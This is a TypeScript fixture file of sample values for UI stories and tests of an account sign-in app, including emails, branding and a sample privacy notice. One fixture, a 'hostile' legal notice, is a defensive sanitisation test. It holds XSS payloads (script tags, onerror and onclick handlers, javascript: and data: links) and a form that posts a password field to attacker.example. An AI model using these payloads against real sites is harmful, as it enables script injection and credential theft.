// Sample values a person or another system supplies at run time (an address
// typed, a service's registered name, a phone's last digits, a wait the server
// words itself), shared by the pages' stories and the tests that look at them.
// None is a product string, so none is translated.
export const SAMPLE = {
  email: 'someone@example.com',
  /** An address longer than a phone's line, to see where it breaks. */
  longEmail: 'firstname.middlename.lastname@subdomain.example-university.edu',
  otherEmail: 'other@example.org',
  /** A further address the person added and has not confirmed yet. */
  pendingEmail: 'pending@example.net',
  /** A third further address: with the two above, as many as an account may have. */
  thirdEmail: 'third@example.net',
  senderEmail: 'accounts@localhost',
  serviceName: 'Monitor',
  displayName: 'Ada Lovelace',
  phoneDigits: '1234',
  /** A subscription's product, as the subscription system names it. */
  productName: 'Orbit VPN',
  wait: 'in 15 minutes',
  /** A relying party's own scope, which the consent screen names as it is. */
  customScope: 'https://identity.example.com/apps/notes',
  /** Where the person wrote they keep their recovery key, as they wrote it. */
  recoveryKeyHint: 'Blue folder, top shelf',
  /** The code a television or a command-line tool shows for the person to type on /device. */
  userCode: 'BCDF-GHJK',
} as const;

/** What a sign-in notification says of the sign-in it asks about: device, place and address. */
/** A sign-in waiting for approval as the confirmation page shows it; its time is the connected devices' sample time. */
export const SAMPLE_PUSH_SIGNIN = { device: 'Firefox on Windows', location: 'Berlin, Germany', ipAddress: '203.0.113.7', time: Date.UTC(2026, 2, 10, 11, 58) } as const;

/**
 * A legal document as the server might send it, and its texts as the page
 * shows them: the document is the deployment's content, not a product string.
 */
export const SAMPLE_LEGAL = {
  markdown: [
    '# Example Privacy Notice',
    '',
    'We keep only what your account needs.',
    '',
    '## What we collect',
    '',
    '- Your email address',
    '- The devices you sign in with',
    '',
    '## Where to learn more',
    '',
    '- [Privacy help pages](https://help.example.org/privacy)',
    '- [Account settings](/settings)',
  ].join('\n'),
  texts: [
    'Example Privacy Notice',
    'We keep only what your account needs.',
    'What we collect',
    'Your email address',
    'The devices you sign in with',
    'Where to learn more',
    'Privacy help pages',
    'Account settings',
  ],
} as const;

/**
 * A legal document written to attack the page: scripts, frames, event
 * handlers, raw HTML and links to javascript: and data: addresses. The page
 * must show its words and nothing else; the texts are what is left to see.
 */
export const SAMPLE_HOSTILE_LEGAL = {
  markdown: [
    '# Hostile notice <script></script>',
    '',
    '<script>window.__legalAttack = "script block"</script>',
    '',
    '<iframe src="https://attacker.example/frame" title="frame"></iframe>',
    '',
    '<img src="x" onerror="window.__legalAttack = \'onerror\'">',
    '',
    '<a href="javascript:window.__legalAttack=\'raw link\'" onclick="window.__legalAttack=\'onclick\'">raw html link</a>',
    '',
    '<div style="position:fixed;inset:0;background:red" onmouseover="window.__legalAttack=\'hover\'">overlay</div>',
    '',
    '<form action="https://attacker.example/steal"><input name="password"></form>',
    '',
    '- [Script link](javascript:window.__legalAttack=\'link\')',
    '- [Data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '- [Encoded link](jav&#x09;ascript:window.__legalAttack=\'encoded\')',
    '- ![Tracking pixel](https://attacker.example/pixel.png)',
    '- [Help pages](https://help.example.org/)',
  ].join('\n'),
  texts: ['Hostile notice', 'raw html link', 'Script link', 'Data link', 'Encoded link', 'Help pages'],
} as const;

const brandImage = (body: string, width: number, height: number) =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}" viewBox="0 0 ${width} ${height}">${body}</svg>`)}`;

/**
 * A relying party's branding as the stories give it to a page (what the
 * server's CMS answer becomes for one page), and the texts it shows.
 */
export const SAMPLE_BRANDING = {
  logo: brandImage('<rect width="40" height="40" rx="9" fill="#7a1f5c"/><path d="M52 14h60M52 26h40" stroke="#7a1f5c" stroke-width="5" stroke-linecap="round"/>', 132, 40),
  split: brandImage('<rect width="480" height="360" fill="#fbe7f2"/><rect x="70" y="70" width="250" height="180" rx="14" fill="#fff" stroke="#7a1f5c" stroke-width="6"/><circle cx="140" cy="140" r="34" fill="#f7a8cf"/>', 480, 360),
  name: 'Orbit Paint',
  headline: 'Welcome back to Orbit Paint',
  description: 'Your sketches and palettes, on every device.',
  button: 'Continue to Orbit Paint',
  buttonColour: 'rgb(122, 31, 92)',
  backgrounds: { default: 'rgb(253, 242, 248)', header: 'rgb(255, 255, 255)', split: 'rgb(251, 231, 242)' },
  // Longest first, so that the name alone is taken out only where it stands on its own.
  texts: ['Welcome back to Orbit Paint', 'Your sketches and palettes, on every device.', 'Continue to Orbit Paint', 'Orbit Paint'],
} as const;
